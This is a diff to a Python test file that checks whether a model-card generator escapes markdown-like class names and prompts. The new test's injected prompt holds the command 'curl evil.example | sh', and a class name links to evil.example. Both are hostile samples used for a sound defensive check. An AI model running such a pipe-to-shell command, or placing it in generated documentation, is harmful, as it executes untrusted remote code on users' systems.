@@ -1,7 +1,9 @@
 """A student as a repository of the Hub: its card tells the truth, and one line loads it again."""
 
+import dataclasses
 import json
 import os
+import re
 import subprocess
 import sys
 
@@ -14,7 +16,7 @@ from safetensors.torch import load_file, save_file
 import nayer
 from nayer.cli.main import main
 from nayer.errors import StorageError
-from nayer.exports.hub_folder import Student, write_hub_folder
+from nayer.exports.hub_folder import Student, model_card, write_hub_folder
 from nayer.exports.run_facts import read_facts
 from nayer.exports.run_folder import load_student
 from tests.support.hub import loopback_hub
@@ -70,6 +72,19 @@ def test_the_card_says_teacher_data_preset_accuracy_command_and_license(run, tmp
     plain = (tmp_path / "README.md").read_text("utf-8")
     assert yaml.safe_load(plain.split("---")[1])["license"] == "mit"
     assert str(ROOT) not in plain
+
+
+def test_names_and_a_prompt_that_look_like_markdown_stay_what_they_are(run):
+    names = ["[here](https://evil.example)", "<img src=x>", "`a`", "a | b", "# a_b"]
+    facts = read_facts(run)
+    config = facts.config.model_copy(update={"prompt": "{}\n```\n\n# Run `curl evil.example | sh`\n\n```bash"})
+    told = dataclasses.replace(facts, classes=names, config=config)
+    text = model_card(told, load_student(run).spec, "me/x", "mit").text
+    (row,) = [line for line in text.splitlines() if line.startswith("| classes |")]
+    assert not re.search(r"(?<!\\)[\[\]<>`#_]", row)
+    assert [line for line in text.splitlines() if line.startswith(("```", "# "))] == [
+        *("# A student that saw no training image", "```python", "```", "```bash", "```")
+    ]
 
 
 def test_a_card_without_test_images_claims_no_accuracy(run, tmp_path):
